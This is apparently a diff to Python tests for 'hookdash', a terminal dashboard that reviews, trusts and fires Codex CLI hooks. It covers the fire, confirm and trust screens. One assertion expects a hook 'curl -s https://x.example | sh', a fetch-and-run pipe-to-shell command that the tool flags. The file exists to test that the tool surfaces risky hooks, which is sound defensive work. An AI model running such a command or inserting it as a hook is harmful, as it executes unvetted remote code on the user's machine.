@@ -104,7 +104,12 @@ async def test_space_switches_a_codex_hook_off_and_on_bytes_back(sandbox: Sandbo
 
 
 async def test_f_fires_a_codex_hook_after_asking(sandbox: Sandbox) -> None:
+    """The fire screen every host has: Codex's payload, the question before a hook Codex
+    skips (modified), then what Codex would do, verdict first; `o` shows it whole."""
+    import json
+
     from hookdash.tui.screens.confirm import ConfirmScreen
+    from hookdash.tui.screens.fire import FireScreen
     from hookdash.tui.screens.output import OutputScreen
     from tests.tui.helpers import until
 
@@ -114,8 +119,22 @@ async def test_f_fires_a_codex_hook_after_asking(sandbox: Sandbox) -> None:
         await pilot.pause()
         select(app.screen.query_one(HookTree), "echo codex-guard")
         await pilot.press("f")
+        await until(lambda: isinstance(app.screen, FireScreen))
+        fire = app.screen
+        assert isinstance(fire, FireScreen)
+        assert json.loads(fire.payload_text)["tool_name"] == "Bash"
+        status = text_of(fire.query_one("#payload-status"), 300)
+        assert "Codex skips this hook without a word" in status  # why it would not run
+        await pilot.press("ctrl+r")
         await until(lambda: isinstance(app.screen, ConfirmScreen))  # modified: Codex skips it
+        question = text_of(app.screen.query_one("#confirm-body"), 200)
+        assert "changed since you trusted it in Codex: Codex would skip it" in question
         await pilot.press("y")
+        await until(lambda: fire.result is not None)
+        body = text_of(fire.query_one("#result-body"), 200)
+        assert "What Codex CLI would do" in body and "Codex would not run this hook" in body
+        assert "✔ ok  echo codex-guard  codex user · exit 0" in body
+        await pilot.press("o")
         await until(lambda: isinstance(app.screen, OutputScreen))
         text = app.screen.query_one("#output-text").text  # type: ignore[attr-defined]
     assert "what Codex CLI would do" in text and "Codex CLI would not run it" in text
@@ -125,14 +144,27 @@ async def test_f_fires_a_codex_hook_after_asking(sandbox: Sandbox) -> None:
 
 
 async def test_t_reviews_codex_hooks_and_trusts_what_it_showed(sandbox: Sandbox) -> None:
+    """Codex's hooks in the one review every host has: each on its own line, whole when
+    highlighted; trusting all records exactly those in the user's hooks.state."""
     from hookdash.tui.screens.confirm import ConfirmScreen
-    from tests.tui.helpers import until
+    from hookdash.tui.screens.trust import TrustScreen
+    from hookdash.tui.widgets.check_list import CheckList
+    from tests.tui.helpers import plain, until
 
     codex_setup(sandbox)
     app = codex_app(sandbox)
     async with app.run_test(size=(120, 36)) as pilot:
         await pilot.pause()
         await pilot.press("T")
+        await until(lambda: isinstance(app.screen, TrustScreen))
+        listing = app.screen.query_one("#trust-list", CheckList)
+        lines = [
+            plain(listing.get_option_at_index(i).prompt, 200) for i in range(listing.option_count)
+        ]
+        assert len(lines) == 2 and all("codex" in line for line in lines), lines
+        assert any("CHANGED" in line and "echo codex-guard" in line for line in lines)
+        assert any("NEW" in line and "pipe to shell" in line.lower() for line in lines)
+        await pilot.press("A")
         await until(lambda: isinstance(app.screen, ConfirmScreen))
         body = text_of(app.screen.query_one("#confirm-body"), 200)
         assert "echo codex-guard" in body and "curl -s https://x.example | sh" in body
